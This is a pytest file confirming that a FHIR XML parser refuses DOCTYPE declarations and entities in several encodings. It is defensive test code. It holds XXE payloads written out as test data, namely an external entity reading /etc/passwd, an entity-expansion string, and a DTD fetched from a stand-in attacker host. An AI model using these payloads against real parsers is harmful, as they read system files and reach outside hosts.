"""Every XML Laihua parses refuses a document type declaration and entities, whatever the text's encoding."""

import pytest

from laihua.kit.fhirxml import XmlUnsafe, check_xhtml, parse_safely, xml_to_dict

ATTACKS = [
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Bundle xmlns="http://hl7.org/fhir">&e;</Bundle>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><Bundle xmlns="http://hl7.org/fhir"/>',
    '<?xml version="1.0"?><!DOCTYPE Bundle SYSTEM "http://evil.example/x.dtd"><Bundle xmlns="http://hl7.org/fhir"/>',
]
ENCODINGS = ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32"]


def encoded(text: str, encoding: str) -> bytes:
    declared = text.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding.upper()}"?>')
    return declared.encode(encoding if encoding != "utf-16" else "utf-16")  # utf-16 carries its byte-order mark


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_doctype_is_refused_in_every_encoding(attack, encoding):
    with pytest.raises(XmlUnsafe):
        xml_to_dict(encoded(attack, encoding))


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_plain_resource_reads_alike_in_every_encoding(encoding):
    text = (
        '<?xml version="1.0"?><Patient xmlns="http://hl7.org/fhir"><id value="p1"/><gender value="female"/></Patient>'
    )
    assert xml_to_dict(encoded(text, encoding)) == {"resourceType": "Patient", "id": "p1", "gender": "female"}


def test_a_narrative_with_entities_is_refused():
    with pytest.raises(ValueError, match="document type"):
        check_xhtml('<!DOCTYPE d [<!ENTITY x "y">]><div xmlns="http://www.w3.org/1999/xhtml">&x;</div>', "text.div")


def test_the_parser_never_reaches_the_network_or_files():
    with pytest.raises(XmlUnsafe):
        parse_safely(b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]><r>&x;</r>')
